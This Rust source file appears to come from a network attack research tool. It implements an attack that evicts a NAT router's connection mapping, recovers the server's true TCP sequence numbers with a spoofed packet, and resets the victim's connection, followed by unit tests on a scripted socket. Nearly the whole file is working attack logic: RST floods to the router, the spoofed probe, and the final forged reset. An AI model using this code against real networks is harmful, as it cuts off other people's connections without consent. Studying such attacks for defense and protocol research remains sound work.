//! Ambient sibling of the hijack attack: evict the router's mapping and
//! reset the victim's connection outright, with no relay.

use crate::attacks::{random_low_half_u32, send_pkt, SendParams};
use crate::error::InterfaceError;
use crate::interface::PacketSocket;
use crate::packet::{Address, Packet};
use crate::topology::Topology;
use std::thread;
use std::time::Duration;
use tracing::{info, info_span, warn};

pub enum Outcome {
    EvictionFailed,
    Closed,
}

/// Evict the mapping, provoke the server's true sequence numbers exactly
/// as the hijack attack does, then immediately reset the connection
/// instead of entering a relay.
pub fn run(
    interface: &dyn PacketSocket,
    topology: &Topology,
    port: u16,
    send_params: SendParams,
    timeout: Duration,
    router_timeout: Duration,
) -> Result<Outcome, InterfaceError> {
    let span = info_span!("close_stream", port);
    let _guard = span.enter();

    let attacker_addr = Address::new(topology.attacker_ip, port);
    let router_addr = Address::new(topology.router_ip, port);

    let server_isn = random_low_half_u32();
    let attacker_isn = random_low_half_u32();
    let garbage_ack = random_low_half_u32();

    for seqno in [server_isn, server_isn.wrapping_add(1 << 31)] {
        send_pkt(
            interface,
            send_params,
            &Packet {
                dst: router_addr,
                seqno,
                rst: true,
                ..Packet::default()
            },
        )?;
    }

    thread::sleep(router_timeout);

    send_pkt(
        interface,
        send_params,
        &Packet {
            src: attacker_addr,
            dst: topology.server_addr,
            seqno: attacker_isn,
            ackno: Some(garbage_ack),
            psh: true,
            ..Packet::default()
        },
    )?;

    let response = interface.receive(&|pkt: &Packet| !pkt.rst, timeout)?;
    let response = match response {
        Some(pkt) => pkt,
        None => {
            warn!("eviction failed");
            eprintln!("eviction failed");
            return Ok(Outcome::EvictionFailed);
        }
    };

    let true_ackno = response.seqno;
    let true_seqno = response.ackno.unwrap_or(0);
    info!(true_seqno, true_ackno, "eviction succeeded, closing connection");

    send_pkt(
        interface,
        send_params,
        &Packet {
            src: attacker_addr,
            dst: topology.server_addr,
            seqno: true_seqno,
            ackno: Some(true_ackno),
            rst: true,
            ..Packet::default()
        },
    )?;

    Ok(Outcome::Closed)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::RefCell;

    struct ScriptedSocket {
        sent: RefCell<Vec<Packet>>,
        responses: RefCell<Vec<Packet>>,
    }

    impl PacketSocket for ScriptedSocket {
        fn send(&self, packet: &Packet) -> Result<bool, InterfaceError> {
            self.sent.borrow_mut().push(packet.clone());
            Ok(true)
        }

        fn receive(
            &self,
            filter: &dyn Fn(&Packet) -> bool,
            _timeout: Duration,
        ) -> Result<Option<Packet>, InterfaceError> {
            let mut responses = self.responses.borrow_mut();
            if let Some(pos) = responses.iter().position(|p| filter(p)) {
                return Ok(Some(responses.remove(pos)));
            }
            Ok(None)
        }
    }

    fn topology() -> Topology {
        Topology {
            interface: "tun0".into(),
            server_addr: Address::new(0x0af48105, 2440),
            router_ip: 0x0af48104,
            attacker_ip: 0x0af40180,
            ttl_drop: 3,
        }
    }

    fn params() -> SendParams {
        SendParams {
            redundancy: 1,
            delay: Duration::from_millis(0),
        }
    }

    #[test]
    fn eviction_failure_reported_when_no_response_arrives() {
        let top = topology();
        let socket = ScriptedSocket {
            sent: RefCell::new(Vec::new()),
            responses: RefCell::new(Vec::new()),
        };
        let result = run(
            &socket,
            &top,
            2222,
            params(),
            Duration::from_millis(5),
            Duration::from_millis(0),
        )
        .unwrap();
        assert!(matches!(result, Outcome::EvictionFailed));
    }

    #[test]
    fn closes_with_final_rst_using_recovered_numbers() {
        let top = topology();
        let reply = Packet {
            src: top.server_addr,
            dst: Address::new(top.attacker_ip, 2222),
            seqno: 0xAAAA0000,
            ackno: Some(0xBBBB0000),
            ..Packet::default()
        };
        let socket = ScriptedSocket {
            sent: RefCell::new(Vec::new()),
            responses: RefCell::new(vec![reply]),
        };
        let result = run(
            &socket,
            &top,
            2222,
            params(),
            Duration::from_millis(5),
            Duration::from_millis(0),
        )
        .unwrap();
        assert!(matches!(result, Outcome::Closed));
        let sent = socket.sent.borrow();
        let final_rst = sent.last().unwrap();
        assert!(final_rst.rst);
        assert_eq!(final_rst.seqno, 0xBBBB0000);
        assert_eq!(final_rst.ackno, Some(0xAAAA0000));
    }
}
